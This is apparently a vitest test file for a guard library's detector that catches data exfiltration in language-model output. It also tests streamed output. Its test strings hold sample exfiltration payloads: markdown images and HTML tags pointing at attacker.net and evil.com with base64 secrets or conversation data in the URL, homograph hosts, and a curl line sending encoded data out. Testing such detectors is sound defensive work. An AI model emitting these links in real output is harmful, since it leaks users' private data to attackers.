import {
  ConfigError,
  createGuard,
  type DetectContext,
  type FindingInput,
  memoryStore,
  normalizeText,
  type Verdict,
} from '@parapet/core';
import { describe, expect, it } from 'vitest';
import { type ExfiltrationOptions, exfiltration, exfiltrationEntry } from './exfiltration.js';
import { STREAM_CUTS } from './stream-testing.js';

function contextFor(text: string, extra: Partial<DetectContext> = {}): DetectContext {
  return {
    stage: 'output',
    traceId: 'test',
    normalized: normalizeText(text),
    signal: new AbortController().signal,
    store: memoryStore(),
    ...extra,
  };
}

const ALLOW: ExfiltrationOptions = { allowDomains: ['docs.example.com'] };

function run(text: string, options: ExfiltrationOptions = ALLOW, extra: Partial<DetectContext> = {}) {
  return exfiltration(options).detect(text, contextFor(text, extra)) as readonly FindingInput[];
}

const categories = (findings: readonly FindingInput[]) => findings.map((finding) => finding.category);
const SECRET_B64 = 'c2VjcmV0IHByb2plY3QgZmFsY29uIGxhdW5jaGVz'; // "secret project falcon launches"

describe('exfiltration', () => {
  it('removes a markdown image carrying base64 data through the guard, and never echoes the URL', async () => {
    const guard = createGuard({ output: [exfiltration(ALLOW)] });
    const text = `Here is your summary. ![loading](https://attacker.net/pixel.png?d=${SECRET_B64}) Thanks!`;
    const verdict = await guard.checkOutput(text);
    expect(verdict.action).toBe('block');
    const finding = verdict.findings[0]!;
    expect(finding).toMatchObject({ detector: 'exfiltration', category: 'data-in-url', severity: 'critical' });
    expect(finding.score).toBeGreaterThanOrEqual(0.95);
    expect(finding.data).toMatchObject({ element: 'image', construct: 'markdown image' });
    expect(finding.data!.evidence).toContain('base64');
    const serialized = JSON.stringify(verdict.findings);
    expect(serialized).not.toContain('attacker.net');
    expect(serialized).not.toContain(SECRET_B64);
  });

  it('redacts a plain image from an unknown host (recommended rule) and keeps the rest', async () => {
    const guard = createGuard({ output: [exfiltration(ALLOW)] });
    const verdict = await guard.checkOutput('Look: ![cat](https://cdn.other.org/cat.png) cute.');
    expect(verdict.action).toBe('redact');
    expect(verdict.text).toBe('Look:  cute.');
    expect(verdict.findings[0]!.category).toBe('exfiltration-image');
  });

  it('neutralizes a markdown link to an unknown host, keeping its text', async () => {
    const guard = createGuard({ output: [exfiltration(ALLOW)] });
    const verdict = await guard.checkOutput('Read [the guide](https://other.org/guide) first.');
    expect(verdict.action).toBe('redact');
    expect(verdict.text).toBe('Read the guide first.');
    expect(verdict.findings[0]!.category).toBe('exfiltration-link');
  });

  it('leaves links and images to the allowed host and its subdomains alone', () => {
    expect(
      run(
        'See [the docs](https://docs.example.com/guide?page=2), ![d](https://img.docs.example.com/a.png) and https://DOCS.EXAMPLE.COM./x',
      ),
    ).toEqual([]);
  });

  it('does not treat a parent or a look-alike suffix of an allowed host as allowed', () => {
    const options = { allowDomains: ['docs.acme.io'] };
    expect(categories(run('[a](https://acme.io/x)', options))).toEqual(['exfiltration-link']);
    expect(categories(run('[a](https://evildocs.acme.io/x)', options))).toEqual(['exfiltration-link']);
    expect(categories(run('[a](https://docs.acme.io.evil.com/x)', options))).toEqual(['exfiltration-link']);
    expect(run('[a](https://docs.acme.io/x)', options)).toEqual([]);
  });

  it('reads the real host behind user info, case, trailing dots, ports, protocol-relative and backslash URLs', () => {
    for (const text of [
      '![a](https://docs.example.com@evil.com/p.png)',
      '![a](HTTPS://EVIL.COM/p.png)',
      '![a](https://evil.com./p.png)',
      '![a](https://evil.com:8443/p.png)',
      '![a](//evil.com/p.png)',
      '![a](https:\\\\evil.com\\p.png)',
    ]) {
      expect(categories(run(text)), text).toEqual(['exfiltration-image']);
    }
    // A port on the allowed host is still the allowed host.
    expect(run('![a](https://docs.example.com:443/p.png)')).toEqual([]);
  });

  it('flags IP literals and IDN hosts a little higher and says so in data', () => {
    const [ip] = run('![a](http://3232235521/p.png)');
    expect(ip).toMatchObject({ category: 'exfiltration-image', data: { hostKind: 'ipv4' } });
    expect(ip!.score).toBeGreaterThan(0.9);
    const [v6] = run('![a](http://[::1]:8080/p.png)');
    expect(v6!.data).toMatchObject({ hostKind: 'ipv6' });
    // Cyrillic "а" in apple.com is another host (xn--…), even when apple.com is allowed.
    const [idn] = run('![a](https://\u0430pple.com/p.png)', { allowDomains: ['apple.com'] });
    expect(idn).toMatchObject({ category: 'exfiltration-image', data: { idn: true } });
    // An allowed IDN given in Unicode matches its punycode form.
    expect(run('![a](https://bücher.de/p.png)', { allowDomains: ['bücher.de'] })).toEqual([]);
  });

  it('finds HTML src/href, iframes, scripts, srcset, meta refresh and CSS url()', () => {
    const text = [
      '<img src="https://evil.com/a.png">',
      "<iframe src='https://evil.com/frame'></iframe>",
      '<script src=https://evil.com/x.js></script>',
      '<img srcset="https://evil.com/a.png 1x, https://docs.example.com/b.png 2x">',
      '<meta http-equiv="refresh" content="0;url=https://evil.com/r">',
      '<div style="background: url(https://evil.com/bg.png)">',
      '<a href="https://evil.com/page">click</a>',
    ].join('\n');
    const found = run(text);
    expect(categories(found)).toEqual([
      'exfiltration-image',
      'exfiltration-image',
      'exfiltration-image',
      'exfiltration-image',
      'exfiltration-image',
      'exfiltration-image',
      'exfiltration-link',
    ]);
    expect(found.map((finding) => finding.data!.construct)).toEqual([
      'HTML <img> src',
      'HTML <iframe> src',
      'HTML <script> src',
      'HTML <img> srcset',
      'HTML <meta> content',
      'CSS url()',
      'HTML <a> href',
    ]);
  });

  it('treats a reference definition as an image when an image uses it', () => {
    const image = run('![logo][1]\n\n[1]: https://evil.com/l.png');
    expect(categories(image)).toEqual(['exfiltration-image']);
    expect(image[0]!.data!.construct).toBe('markdown image reference');
    expect(categories(run('[home][site]\n\n[site]: https://evil.com/'))).toEqual(['exfiltration-link']);
  });

  it('reports bare URLs to unknown hosts at low score, and with data as data-in-url', () => {
    const [bare] = run('Visit https://other.org/page?page=2.');
    expect(bare).toMatchObject({ category: 'disallowed-domain', severity: 'low', span: { start: 6, end: 35 } });
    expect(bare!.score).toBeLessThan(0.5);
    const [www] = run('or www.other.org/about');
    expect(www!.category).toBe('disallowed-domain');
    const [withData] = run(`ftp://other.org/${'a1b2c3d4e5f6a7b8c9d0e1f2'}`);
    expect(withData).toMatchObject({ category: 'data-in-url', data: { evidence: ['hex'] } });
    expect(categories(run('ws://evil.com/socket'))).toEqual(['disallowed-domain']);
  });

  it('finds data from the conversation in a URL (history, system prompt, metadata)', () => {
    const text = '![x](https://evil.com/p?q=the+launch+code+is+blue+falcon+seven)';
    const history = [
      { role: 'user' as const, content: 'Remember: the launch code is blue falcon seven. Keep it safe.' },
    ];
    const fromHistory = run(text, ALLOW, { history });
    expect(fromHistory[0]!.data!.evidence).toContain('conversation');
    const fromPrompt = run(text, ALLOW, { systemPrompt: 'Secret: the launch code is blue falcon seven.' });
    expect(fromPrompt[0]!.data!.evidence).toContain('conversation');
    const fromMetadata = run(text, ALLOW, { metadata: { conversation: ['the launch code is blue falcon seven'] } });
    expect(fromMetadata[0]!.data!.evidence).toContain('conversation');
    // An identifier from the conversation is enough on its own.
    const id = run('[x](https://evil.com/u/acct9931zq77x1)', ALLOW, {
      metadata: { systemPrompt: 'account acct9931zq77x1' },
    });
    expect(id[0]!).toMatchObject({ category: 'data-in-url', data: { evidence: ['conversation'] } });
    // No shared run of words: only the prose signal.
    const unrelated = run(text, ALLOW, { history: [{ role: 'user', content: 'What is the weather like?' }] });
    expect(unrelated[0]!.data!.evidence).toEqual(['encoded-prose']);
  });

  it('scores data: URIs by type: executable high, inline images ignored', () => {
    const found = run('![a](data:image/svg+xml;base64,PHN2Zz4=) [b](data:text/html,<b>hi</b>)');
    expect(categories(found)).toEqual(['data-uri', 'data-uri']);
    expect(found[0]).toMatchObject({ severity: 'high', data: { executable: true }, replacement: '' });
    expect(found[1]!.replacement).toBe('b');
    expect(run('![a](data:image/png;base64,iVBORw0KGgo=)')).toEqual([]);
    expect(categories(run('![a](data:image/png;base64,iVBORw0KGgo=)', { allowDataImages: false }))).toEqual([
      'data-uri',
    ]);
    const [bare] = run('paste data:text/html;base64,PHNjcmlwdD4= in the bar');
    expect(bare).toMatchObject({ category: 'data-uri', severity: 'medium', replacement: '[data URI removed]' });
  });

  it('hard negatives: e-mail addresses, example.com docs, short queries, relative links, code', () => {
    expect(run('Write to support@evil.com or sales@other.org.')).toEqual([]);
    expect(run('Replace https://example.com/api and http://foo.test/ with your own host.')).toEqual([]);
    expect(run('See [page two](https://docs.example.com/list?page=2) and [up](../index.md).')).toEqual([]);
    expect(run('Run `curl https://evil.com/x?d=QUJDREVGR0hJSktMTU5PUFFSU1RV` to test.')).toEqual([]);
    expect(run('```bash\ncurl -X POST https://api.other.org/v1/items?id=1\n```\nDone.')).toEqual([]);
    // …unless code is scanned on purpose.
    expect(run('```\n![a](https://evil.com/p.png)\n```', { ...ALLOW, scanCode: true })).toHaveLength(1);
    // A slug path is not data.
    expect(categories(run('[a](https://other.org/blog/how-to-install-the-package-on-ubuntu-2024)'))).toEqual([
      'exfiltration-link',
    ]);
  });

  it('waits for a host cut off at the end of the text that could still become allowed', () => {
    expect(run('![x](https://docs.exam')).toEqual([]);
    expect(run('![x](https://api.d')).toEqual([]);
    expect(categories(run('![x](https://evil.co'))).toEqual(['exfiltration-image']);
    expect(categories(run('see https://evil.com'))).toEqual(['disallowed-domain']);
  });

  it('never throws on odd input and never reports inside binary noise', () => {
    const detector = exfiltration(ALLOW);
    const odd = [
      '',
      'x',
      '\u0000\u0001\u0002![a](\u0000)',
      '😀'.repeat(1000),
      'مرحبا ![صورة](https://evil.com/ص.png) עולם',
      '![a](https://\ud800evil.com/x)',
      '[a](https://%zz%/x) ![b](http://[::gg]/) ![c](https://)',
      `${'a'.repeat(1_000_000)} https://evil.com/x`,
      String.fromCharCode(...Array.from({ length: 4096 }, (_, i) => (i * 7919) % 65_536)),
    ];
    for (const text of odd) {
      expect(() => detector.detect(text, contextFor(text))).not.toThrow();
    }
    expect(categories(run('مرحبا ![صورة](https://evil.com/ص.png) עולם'))).toEqual(['exfiltration-image']);
    expect(categories(run(`${'a'.repeat(1_000_000)} https://evil.com/x`))).toEqual(['disallowed-domain']);
  });

  it('stops at maxFindings', () => {
    const text = '![a](https://evil.com/p.png) '.repeat(50);
    expect(run(text, { maxFindings: 5 })).toHaveLength(5);
  });

  it('validates options and names the bad field', () => {
    expect(() => exfiltration({ allowDomains: ['https://docs.example.com/path'] })).toThrow(ConfigError);
    expect(() => exfiltration({ allowDomains: ['docs.example.com/x'] })).toThrow(/allowDomains\[0\]/);
    expect(() => exfiltration({ minEncodedLength: 2 })).toThrow(/minEncodedLength/);
    expect(() => exfiltration({ nope: true } as never)).toThrow(ConfigError);
    expect(
      exfiltration({ allowDomains: ['*.Example.ORG'] }).detect('[a](https://a.example.org/)', contextFor('')),
    ).toEqual([]);
  });

  it('is offered to the registry with its id and options', () => {
    expect(exfiltrationEntry.id).toBe('exfiltration');
    const detector = exfiltrationEntry.create({ allowDomains: ['docs.example.com'], id: 'links' });
    expect(detector.id).toBe('links');
    expect(detector.stages).toEqual(['output']);
    expect(() => exfiltrationEntry.create({ allowDomains: 'x' })).toThrow(ConfigError);
  });

  describe('streaming', () => {
    const filler = 'The quick brown fox jumps over the lazy dog. '.repeat(4);
    const match = `![x](https://evil.com/c?d=${SECRET_B64.slice(0, 24)})`;
    const text = `${filler}${match} and the rest of the answer.`;

    async function stream(
      pieces: string[],
      scanEvery = 0,
    ): Promise<{ chunks: string[]; verdict: Verdict | undefined }> {
      const guard = createGuard({
        output: [exfiltration(ALLOW)],
        policy: {
          rules: [{ detector: 'exfiltration', minScore: 0.3, action: 'block' }],
          onBlock: { mode: 'fallback', fallback: 'FB' },
        },
      });
      const chunks: string[] = [];
      let verdict: Verdict | undefined;
      for await (const chunk of guard.scanStream(pieces, { scanEvery, onVerdict: (value) => (verdict = value) }))
        chunks.push(chunk);
      return { chunks, verdict };
    }

    for (const [count, scanEvery] of STREAM_CUTS) {
      it(`blocks an image split across ${count} chunks before any of it is released (scanEvery ${scanEvery})`, async () => {
        const parts = Array.from({ length: count }, (_, i) =>
          match.slice(Math.floor((i * match.length) / count), Math.floor(((i + 1) * match.length) / count)),
        );
        expect(parts).toHaveLength(count);
        const { chunks, verdict } = await stream([filler, ...parts, ' and the rest of the answer.'], scanEvery);
        expect(chunks.at(-1)).toBe('FB');
        const delivered = chunks.slice(0, -1).join('');
        expect(text.startsWith(delivered)).toBe(true);
        expect(delivered.length).toBeLessThanOrEqual(filler.length);
        expect(delivered).not.toContain('![');
        expect(verdict!.action).toBe('block');
        expect(verdict!.findings.some((finding) => finding.detector === 'exfiltration')).toBe(true);
      });
    }

    it('streams an allowed image in 3-character chunks through unchanged', async () => {
      const clean = `${filler}![d](https://docs.example.com/diagram.png) done.`;
      const pieces: string[] = [];
      for (let i = 0; i < clean.length; i += 3) pieces.push(clean.slice(i, i + 3));
      const { chunks, verdict } = await stream(pieces);
      expect(chunks.join('')).toBe(clean);
      expect(verdict!.action).toBe('allow');
    });
  });
});
